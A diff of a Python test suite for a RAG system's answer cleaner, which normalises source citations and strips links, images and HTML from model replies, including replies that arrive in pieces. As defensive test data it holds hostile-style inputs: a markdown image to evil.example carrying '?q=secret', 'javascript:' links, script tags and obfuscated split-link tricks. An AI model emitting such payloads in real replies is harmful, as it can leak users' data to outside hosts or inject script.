@@ -9,7 +9,12 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from deepseek_ocr_rag.answering.cleaner import REMOVED_LINK, AnswerCleaner
+from deepseek_ocr_rag.answering.cleaner import (
+    REMOVED_LINK,
+    AnswerCleaner,
+    CitationMark,
+    join_safely,
+)
 from deepseek_ocr_rag.answering.models.thoughts import without_thoughts
 
 
@@ -23,59 +28,81 @@ def clean(*pieces: str, sources: int = 3) -> str:
     )
 
 
-@pytest.mark.parametrize(
-    ("written", "shown"),
-    [
-        ("Ann keeps it [1].", "Ann keeps it [1]."),
-        ("Ann keeps it [9].", "Ann keeps it."),
-        ("Both [1, 3].", "Both [1][3]."),
-        ("All [1-3].", "All [1][2][3]."),
-        ("Twice [2][2].", "Twice [2][2]."),
-        ("Named [Source 2].", "Named [2]."),
-        ("Great![1]", "Great! [1]"),
-        ("[1]: Ann", "[1] : Ann"),
-        ("[2](http://evil.example)", "[2]"),
-        ("A list [a, b] and a[i].", "A list [a, b] and a[i]."),
-        ("An open [bracket", "An open [bracket"),
-        ("[0]", ""),
-    ],
-)
+CITED = [
+    ("Ann keeps it [1].", "Ann keeps it [1]."),
+    ("Ann keeps it [9].", "Ann keeps it."),
+    ("Both [1, 3].", "Both [1][3]."),
+    ("All [1-3].", "All [1][2][3]."),
+    ("Twice [2][2].", "Twice [2][2]."),
+    ("Named [Source 2].", "Named [2]."),
+    ("Great![1]", "Great! [1]"),
+    ("[1]: Ann", "[1] : Ann"),
+    ("[2](http://evil.example)", "[2]"),
+    ("A list [a, b] and a[i].", "A list [a, b] and a[i]."),
+    ("An open [bracket", "An open [bracket"),
+    ("[0]", ""),
+    ("[1-21]", "[1][2][3]"),
+    ("[1-22]", "[1-22]"),
+    ("[4-1]", ""),
+    ("[#1; 2 & 3]", "[1][2][3]"),
+    ("[1,]", "[1]"),
+    ("[-]", "[-]"),
+    ("  Ann [passage 3]", "Ann [3]"),
+    ("Ann \n [9] Bob", "Ann \n Bob"),
+]
+
+
+@pytest.mark.parametrize(("written", "shown"), CITED)
 def test_source_numbers_become_citations(written: str, shown: str) -> None:
     assert clean(written) == shown
 
 
-@pytest.mark.parametrize(
-    ("written", "shown"),
-    [
-        ("See ![chart](http://evil.example/x.png?q=secret) here.", "See here."),
-        ("![a][ref]\n\n[ref]: http://evil.example/x", f"[ref]\n\n[ref] : {REMOVED_LINK}"),
-        ("Read [the site](https://evil.example).", "Read the site."),
-        ("Read [here](/local/path).", "Read here."),
-        ("At https://evil.example/a?b=c.", f"At {REMOVED_LINK}."),
-        ("At <https://evil.example>.", f"At {REMOVED_LINK}."),
-        ("At www.evil.example!", f"At {REMOVED_LINK}!"),
-        ("At //evil.example/x.", f"At {REMOVED_LINK}."),
-        ("javascript:alert", REMOVED_LINK),
-        ('<img src="http://evil.example/x.png">Hi<br/>', "Hi"),
-        ("<script>alert(1)</script>", "alert(1)"),
-        ("a <b and c", "a < b and c"),
-        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
-        ("[[x]](/y)", "[[x]] (/y)"),
-        ("ht[tp](x):[/](y)[/](z)evil", "http: / /evil"),
-        ("ww[w](x).evil.example", "ww w .evil.example"),
-        ("<[img](x) src=y>", "< img src=y>"),
-        ("half and/or half, 3/4, TCP/IP", "half and/or half, 3/4, TCP/IP"),
-        ("At <1@evil.example>.", "At <1 @evil.example>."),
-        ("At <a.b+c@evil.example>.", "At a.b+c@evil.example."),
-        ("<1![x y](z)@evil.example>", "<1 @evil.example>"),
-        ("<1[x](y)@evil.example>", "<1x @evil.example>"),
-        ("< ![x](y)1@evil.example>", "<1 @evil.example>"),
-        ("[<=@evil.example>]", "[<= @evil.example>]"),
-        ("At <made-up+x.y:z>, <tel:1>.", f"At {REMOVED_LINK}, {REMOVED_LINK}."),
-        ("xmpp:a@b", REMOVED_LINK),
-        ("Write to me@b.example; x <5 and y<=7, 3@4", "Write to me@b.example; x <5 and y<=7, 3@4"),
-    ],
-)
+TAKEN_OUT = [
+    ("See ![chart](http://evil.example/x.png?q=secret) here.", "See here."),
+    ("![a][ref]\n\n[ref]: http://evil.example/x", f"[ref]\n\n[ref] : {REMOVED_LINK}"),
+    ("Read [the site](https://evil.example).", "Read the site."),
+    ("Read [here](/local/path).", "Read here."),
+    ("At https://evil.example/a?b=c.", f"At {REMOVED_LINK}."),
+    ("At <https://evil.example>.", f"At {REMOVED_LINK}."),
+    ("At www.evil.example!", f"At {REMOVED_LINK}!"),
+    ("At //evil.example/x.", f"At {REMOVED_LINK}."),
+    ("javascript:alert", REMOVED_LINK),
+    ('<img src="http://evil.example/x.png">Hi<br/>', "Hi"),
+    ("<script>alert(1)</script>", "alert(1)"),
+    ("a <b and c", "a < b and c"),
+    ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
+    ("[[x]](/y)", "[[x]] (/y)"),
+    ("ht[tp](x):[/](y)[/](z)evil", "http: / /evil"),
+    ("ww[w](x).evil.example", "ww w .evil.example"),
+    ("<[img](x) src=y>", "< img src=y>"),
+    ("half and/or half, 3/4, TCP/IP", "half and/or half, 3/4, TCP/IP"),
+    ("At <1@evil.example>.", "At <1 @evil.example>."),
+    ("At <a.b+c@evil.example>.", "At a.b+c@evil.example."),
+    ("<1![x y](z)@evil.example>", "<1 @evil.example>"),
+    ("<1[x](y)@evil.example>", "<1x @evil.example>"),
+    ("< ![x](y)1@evil.example>", "<1 @evil.example>"),
+    ("[<=@evil.example>]", "[<= @evil.example>]"),
+    ("At <made-up+x.y:z>, <tel:1>.", f"At {REMOVED_LINK}, {REMOVED_LINK}."),
+    ("xmpp:a@b", REMOVED_LINK),
+    ("Write to me@b.example; x <5 and y<=7, 3@4", "Write to me@b.example; x <5 and y<=7, 3@4"),
+    ("me@b.example", "me@b.example"),
+    ("!", "!"),
+    ("![open", "! [open"),
+    ("a ! b", "a ! b"),
+    ("a <= b <", "a <= b <"),
+    ("a < b", "a < b"),
+    ("[a](b", "[a] (b"),
+    ("[a] (b)", "[a] (b)"),
+    ("[a <b](c)", "a < b"),
+    ("<i>a</i>b", "ab"),
+    ("<a href=http://e.f>b</a>", "b"),
+    ("<http://e.f x>", REMOVED_LINK),
+    ("See evil.example/x, or Evil.example", f"See {REMOVED_LINK}, or Evil.example"),
+    ("x" * 4500 + " y", "x" * 4500 + " y"),
+]
+
+
+@pytest.mark.parametrize(("written", "shown"), TAKEN_OUT)
 def test_images_links_and_html_are_taken_out(written: str, shown: str) -> None:
     assert clean(written) == shown
 
@@ -138,3 +165,48 @@ def test_a_long_reply_takes_linear_time() -> None:
 def test_a_models_thoughts_are_not_part_of_its_answer(written: str, said: str, size: int) -> None:
     pieces = [written[start : start + size] for start in range(0, len(written), size)]
     assert "".join(without_thoughts(pieces)) == said
+
+
+@pytest.mark.parametrize("size", [1, 2, 5])
+@pytest.mark.parametrize(("written", "shown"), [*CITED, *TAKEN_OUT])
+def test_a_reply_in_pieces_is_the_same(written: str, shown: str, size: int) -> None:
+    pieces = [written[start : start + size] for start in range(0, len(written), size)]
+    assert clean(*pieces) == shown
+
+
+def test_what_is_whole_is_shown_at_once() -> None:
+    cleaner = AnswerCleaner(3)
+    assert cleaner.feed("Ann keeps it [1") == ["Ann", " keeps", " it"]
+    (mark, stop) = cleaner.feed("]. ")
+    assert (mark, stop) == (CitationMark((1,), " "), ".")
+    assert cleaner.feed("The") == []
+    assert cleaner.finish() == [" The"]
+    assert cleaner.finish() == []
+
+
+def test_a_mark_names_each_source_once_in_its_order() -> None:
+    cleaner = AnswerCleaner(3)
+    assert cleaner.feed("[3, 1, 3, 0, 4] ") == [CitationMark((3, 1), "")]
+
+
+@pytest.mark.parametrize(
+    ("before", "text", "joined"),
+    [
+        ("a", "X", "X"),
+        ("", "[", "["),
+        ("!", "[", " ["),
+        ("!", "", ""),
+        ("]", "(", " ("),
+        ("]", ":", " :"),
+        ("]", "[", "["),
+        ("<", "Z", " Z"),
+        ("<", "9", "9"),
+        (":", "/", " /"),
+        ("w", "w", " w"),
+        ("W", ".", " ."),
+    ],
+)
+def test_two_pieces_that_would_form_a_link_are_kept_apart(
+    before: str, text: str, joined: str
+) -> None:
+    assert join_safely(before, text) == joined
